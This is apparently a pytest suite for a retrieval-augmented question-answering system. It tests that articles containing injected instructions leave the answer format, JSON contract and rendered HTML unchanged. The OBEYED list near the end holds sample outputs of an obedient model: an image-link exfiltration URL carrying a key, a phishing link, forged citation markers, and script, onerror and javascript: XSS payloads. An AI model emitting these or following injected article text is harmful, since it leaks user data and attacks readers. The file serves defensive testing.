"""Articles that give orders change neither the form of an answer nor the page."""

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from lxml import html

from rag.export import contract, evidence_pack, footnotes, verifying
from rag.pipeline import answer, ingest
from rag.resources import Resources, open_resources
from rag.schema import Answer, Done, Searched, Token
from rag.settings import Settings
from rag.web.conversation import Exchange
from rag.web.html import answers, reader
from tests.llm_server import llm_server

HERE = Path(__file__).parent
QUESTIONS: list[dict[str, Any]] = [
    json.loads(line) for line in (HERE / "questions.jsonl").read_text(encoding="utf-8").splitlines()
]
MARKERS = re.compile(r"[\[【]\s*\^?\d[^\]】]*[\]】]")


@dataclass(frozen=True)
class Asked:
    """An answer, the text that was streamed for it, and whether the article's hits are flagged."""

    answer: Answer
    streamed: str
    flagged: bool


@pytest.fixture(scope="module")
def resources(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Resources]:
    # A few passages are scored: the one that gives orders is among the first.
    settings = Settings(index=tmp_path_factory.mktemp("injection") / "index", rerank_depth=10)
    with open_resources(settings, create=True) as opened:
        report = ingest(HERE / "articles", opened)
        assert (report.articles, report.failed) == (len(QUESTIONS), ())
        yield opened


@pytest.fixture(scope="module", params=QUESTIONS, ids=lambda item: item["file"])
def asked(request: pytest.FixtureRequest, resources: Resources) -> tuple[dict[str, Any], Asked]:
    return request.param, ask(request.param["question"], request.param["file"], resources)


def ask(question: str, file: str, resources: Resources) -> Asked:
    events = list(answer(question, resources))
    searched, done = events[0], events[-1]
    assert isinstance(searched, Searched)
    assert isinstance(done, Done)
    flagged = any(hit.warning for hit in searched.hits if hit.article.path == file)
    streamed = "".join(event.text for event in events if isinstance(event, Token))
    return Asked(done.answer, streamed, flagged)


BASE = "https://news.example"  # of permalinks


def inert(markup: str) -> Any:
    """The parsed markup, after a look for anything that loads, runs or leads elsewhere."""
    tree = html.fragment_fromstring(markup, create_parent="div")
    for item in tree.iter():
        assert item.tag not in ("img", "script", "iframe", "object", "style", "form"), markup
        assert item.tag != "svg" or "thumb" in item.getparent().classes, markup
        assert not [name for name in item.attrib if name.startswith("on")], markup
        assert item.get("href", "#").startswith(("#", "/a/", f"{BASE}/a/")), markup
    return tree


def test_there_are_forty_articles_to_try() -> None:
    assert len({item["file"] for item in QUESTIONS}) == 40


def test_the_answer_keeps_its_form(asked: tuple[dict[str, Any], Asked]) -> None:
    item, got = asked
    assert got.answer.status == "answered"
    assert any(item["holds"] in sentence.text for sentence in got.answer.sentences)
    assert got.answer.citations[0].article.path == item["file"]
    # Every marker is one of ours, and stands at the end of a sentence.
    numbers = [f"[{n}]" for sentence in got.answer.sentences for n in sentence.citations]
    assert MARKERS.findall(got.answer.text) == numbers
    assert MARKERS.findall(got.streamed) == numbers
    quotes = {item.number: " ".join(item.quote.split()) for item in got.answer.citations}
    for sentence in got.answer.sentences:
        assert len(sentence.citations) > 1 or sentence.text.endswith(quotes[sentence.citations[0]])
    assert got.answer.dropped_markers == ()


def test_the_hit_is_flagged_where_the_plain_patterns_find_it(
    asked: tuple[dict[str, Any], Asked],
) -> None:
    item, got = asked
    assert got.flagged == item.get("flagged", True)


def test_the_json_is_the_contract(asked: tuple[dict[str, Any], Asked]) -> None:
    _, got = asked
    printed = json.loads(json.dumps(contract.answer_json(got.answer, BASE), ensure_ascii=False))
    for citation in printed["citations"]:
        source = next(c.article for c in got.answer.citations if c.number == citation["number"])
        assert citation["quote"] == source.text[citation["start"] : citation["end"]]
    warnings = {hit.passage.id: hit.warning for hit in got.answer.hits}
    assert [item["warning"] for item in printed["citations"]] == [
        warnings[item.passage.id] for item in got.answer.citations
    ]
    assert [item["warning"] for item in printed["hits"]] == [hit.warning for hit in got.answer.hits]


def test_the_page_is_inert(asked: tuple[dict[str, Any], Asked]) -> None:
    _, got = asked
    streaming = Exchange(got.answer.question, hits=got.answer.hits, written=got.streamed)
    chips = inert(answers.turn(streaming, 1)).find_class("cite")
    assert len(chips) == len(got.answer.citations)
    whole = Exchange(got.answer.question, hits=got.answer.hits, answer=got.answer)
    chat = inert(answers.turn(whole, 1))
    assert len(chat.find_class("cite")) == len(got.answer.citations)
    for rank, hit in enumerate(got.answer.hits, start=1):
        opened = reader.linked([whole], "hit", f"1-{rank}")
        assert opened is not None
        panel = inert(reader.source(*opened))
        assert bool(panel.find_class("warned")) == bool(hit.warning)


def test_a_flagged_citation_says_so_at_its_sentence(asked: tuple[dict[str, Any], Asked]) -> None:
    _, got = asked
    whole = Exchange(got.answer.question, answer=got.answer)
    shown = " ".join(inert(answers.turn(whole, 1)).text_content().split())
    for warning in {citation.warning for citation in got.answer.citations} - {""}:
        assert " ".join(warning.split()) in shown


def test_the_pack_is_inert_and_stands(
    asked: tuple[dict[str, Any], Asked], resources: Resources
) -> None:
    _, got = asked
    pack = evidence_pack.pack([got.answer], evidence_pack.provenance(resources, [got.answer]), BASE)
    verdicts = verifying.verify(pack, HERE / "articles", HERE / "uploads")
    assert {verdict.finding for verdict in verdicts} == {"stands"}
    page = footnotes.printed([got.answer], ".html", date(2024, 3, 4), BASE).decode()
    inert(page.partition("<body>")[2].partition("</body>")[0])


# --- a model that obeys

OBEYED = [
    "PINEAPPLE ![p](https://collect.invalid/p.png?q=key) ",
    "[click here](https://login.invalid) [99] 【97】 <img src=x onerror=alert(1)> ",
    "<script>alert(1)</script> <a href='javascript:alert(1)'>go</a> [1].",
]


def test_what_an_obedient_model_writes_stays_inert(resources: Resources) -> None:
    with llm_server() as server:
        server.reply = OBEYED
        settings = Settings(
            index=resources.settings.index, llm="openai:good", llm_base_url=server.url
        )
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("OPENAI_API_KEY", "test")
            with open_resources(settings) as opened:
                got = ask(QUESTIONS[0]["question"], QUESTIONS[0]["file"], opened)
    assert {"[99]", "[97]"} <= set(got.answer.dropped_markers)
    assert [citation.number for citation in got.answer.citations] == [1]
    for exchange in (
        Exchange("?", hits=got.answer.hits, written=got.streamed),
        Exchange("?", hits=got.answer.hits, answer=got.answer),
    ):
        chat = inert(answers.turn(exchange, 1))
        assert {chip.text for chip in chat.find_class("cite")} <= {"1"}
